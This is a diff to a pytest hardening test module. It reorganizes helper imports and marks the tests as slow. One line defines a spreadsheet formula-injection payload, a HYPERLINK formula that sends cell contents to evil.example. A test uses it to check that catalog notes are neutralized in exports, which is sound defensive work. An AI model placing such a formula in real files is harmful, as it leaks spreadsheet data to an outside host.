@@ -17,9 +17,12 @@ from pathlib import Path
 import duckdb
 import pytest
 from click.testing import CliRunner
-from hardening_helpers import REPO, run_atelier, tiny_models, write_catalog
+from support.hardening import REPO, run_atelier, tiny_models, write_catalog
 
 from evaluator.cli.main import main
+
+# Real subprocesses, kills, full disks: minutes in all, so outside the quick subset.
+pytestmark = pytest.mark.slow
 
 CORPUS = REPO / "tests" / "corpus"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
@@ -217,7 +220,7 @@ def test_gallery_refuses_a_store_row_pointing_outside(tmp_path):
 
 
 def test_formula_in_a_catalog_note_passes_validation_with_a_warning_and_is_neutralized_in_exports(models, tmp_path):
-    from test_score_fixtures import make_workdir
+    from support.scoring import make_workdir
 
     from dashboard.queries import Store, csv_bytes, run_user_sql
     from evaluator.scoring.run import ScoreConfig, score
